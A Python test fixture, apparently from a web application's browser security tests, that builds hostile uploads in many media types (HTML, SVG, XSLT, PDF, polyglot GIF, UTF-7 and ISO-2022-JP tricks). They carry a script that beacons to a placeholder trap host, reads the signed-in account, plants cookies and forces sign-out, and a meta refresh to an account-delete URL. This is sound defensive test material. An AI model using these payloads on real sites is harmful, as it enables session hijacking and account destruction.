"""Files that act on whoever opens them, as far as they are let: each does the same, in another form.

`SCRIPT` tells the trap that it ran, then what it could read, plant and send in the name of who is signed in.
"""

from __future__ import annotations

from tests.browser.trap import Upload

SCRIPT = """(() => {
const tell = what => { new Image().src = TRAP + what; };
tell('/ran');
document.title = 'ran';
try { document.cookie = 'planted=1; path=/'; localStorage.setItem('planted', '1'); } catch (error) {}
if (opener) opener.postMessage('hello', '*');
fetch(BASE + '/.account/', {credentials: 'include'}).then(answer => answer.text()).then(text => tell('/read'), () => {});
fetch(BASE + '/.account/sign-out', {method: 'POST', credentials: 'include', mode: 'no-cors'}).catch(() => {});
try { navigator.serviceWorker.register(location.pathname.replace(/[^/]*$/, 'worker.js')).then(() => tell('/worker'), () => {}); } catch (error) {}
})()"""

MARKUP = """<a href="BASE/.account/" target="_blank">Open</a> <a href="javascript:SCRIPT">Run</a>
<a href="#here" ping="BASE/.account/sign-out TRAP/pinged">Ping</a>
<iframe src="BASE/.account/"></iframe><iframe srcdoc="&lt;img src='TRAP/framed'&gt;"></iframe>
<object data="BASE/.account/"></object><embed src="BASE/.account/"/><img src="TRAP/picture"/>
<link rel="stylesheet" href="TRAP/style"/><link rel="prefetch" href="BASE/.home/alice/"/>
<img src="BASE/.oidc/logout" onerror="SCRIPT"/><video src="TRAP/film"></video>
<form method="post" action="BASE/.account/sign-out"><button>Send</button></form>
<form method="post" action="TRAP/form"><button formtarget="_blank">Post</button></form>"""

HTML = (
    "<!doctype html><title>a page</title><script>SCRIPT</script>"
    '<meta http-equiv="refresh" content="0; url=BASE/.account/delete"/>'
    '<meta http-equiv="set-cookie" content="planted=1; path=/"/>' + MARKUP
)
XHTML = f'<html xmlns="http://www.w3.org/1999/xhtml"><script>SCRIPT</script><body>{MARKUP}</body></html>'
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="SCRIPT"><script>SCRIPT</script><text y="20">a page</text>'
    '<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="BASE/.account/"/></foreignObject></svg>'
)
STYLESHEET = (
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
    '<xsl:template match="/"><html><body><script>SCRIPT</script></body></html></xsl:template></xsl:stylesheet>'
)
STYLED = '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{}"?><page/>'
PDF = b"""%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\("TRAP/pdf"\\))>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj
trailer<</Root 1 0 R>>"""
POLYGLOT = b"GIF89a/*\x01\x00\x01\x00*/=1;SCRIPT//<html><script>SCRIPT</script>"

UPLOADS: dict[str, tuple[str, str | bytes]] = {
    "HTML": ("text/html", HTML),
    "HTML in capitals": ("TEXT/HTML; Charset=utf-8", HTML),
    "HTML with parameters": ('text/html; x="; a=b"; charset="UTF-8"', HTML),
    "HTML in UTF-16": ("text/html; charset=utf-16le", HTML.encode("utf-16le")),
    "HTML in UTF-7": ("text/html; charset=utf-7", "+ADw-script+AD4-SCRIPT+ADw-/script+AD4-"),
    "HTML in ISO-2022-JP": ("text/html; charset=iso-2022-jp", b"<img alt='\x1b$B'><p alt='\x1b(B onerror=\"SCRIPT\"'>" + HTML.encode()),
    "XHTML": ("application/xhtml+xml", XHTML),
    "SVG": ("image/svg+xml", SVG),
    "SVG with parameters": ("image/svg+xml; charset=utf-8", SVG),
    "XML": ("application/xml", XHTML),
    "XML as text": ("text/xml", XHTML),
    "XML of some kind": ("application/rss+xml", XHTML),
    "XML with a stylesheet": ("application/xml", STYLED.format("style.xsl")),
    "XML with itself as stylesheet": ("text/xml", STYLED.format("data:text/xml," + STYLESHEET.replace("<", "%3C").replace('"', "%22").replace("#", "%23"))),
    "XSLT": ("application/xslt+xml", STYLESHEET),
    "Markdown": ("text/markdown", HTML),
    "text": ("text/plain", HTML),
    "JSON": ("application/json", HTML),
    "a script": ("text/javascript", "SCRIPT"),
    "a style sheet": ("text/css", "@import 'TRAP/style'; body { background: url(TRAP/picture) }"),
    "an unknown type": ("application/x-nothing", HTML),
    "a web archive": ("multipart/related; boundary=x", "--x\r\nContent-Type: text/html\r\n\r\n" + HTML + "\r\n--x--"),
    "a mail": ("message/rfc822", "Content-Type: text/html\r\n\r\n" + HTML),
    "PDF": ("application/pdf", PDF),
    "a picture that is a script": ("image/gif", POLYGLOT),
    "a picture that is a page": ("image/png", b"\x89PNG\r\n\x1a\n" + HTML.encode()),
    "Turtle": ("text/turtle", '<#it> <http://purl.org/dc/terms/title> """<script>SCRIPT</script>""".'),
}  # fmt: skip
"""What it is called -> its media type and content. BASE, TRAP and SCRIPT stand for what differs."""

RUNS = ("HTML", "HTML in capitals", "HTML with parameters", "HTML in UTF-16", "XHTML", "SVG", "SVG with parameters", "XML", "XML as text", "XML with a stylesheet")  # fmt: skip
"""Those in which Chromium runs the script where nobody keeps it from that."""


BESIDE = ("HTML", "XHTML", "SVG", "XML with a stylesheet", "PDF", "Turtle", "an unknown type")
"""What is tried in each placement; the others in one."""


def upload(name: str, base: str, trap: str) -> Upload:
    media_type, content = UPLOADS[name]
    return media_type, filled(content, base, trap)


def filled(content: str | bytes, base: str, trap: str) -> bytes:
    """Scripts in attributes and in XML may hold no quotes and no less-than signs of theirs: `SCRIPT` has neither but `=>`."""
    script = SCRIPT.replace("BASE", f"'{base}'").replace("TRAP", f"'{trap}'").replace("\n", " ")
    pairs = (("SCRIPT", script), ("BASE", base), ("TRAP", trap))
    encoding = "utf-16le" if isinstance(content, bytes) and content[1:2] == b"\0" else "utf-8"
    data = content.encode() if isinstance(content, str) else content
    for name, value in pairs:
        data = data.replace(name.encode(encoding), value.encode(encoding))
    return data
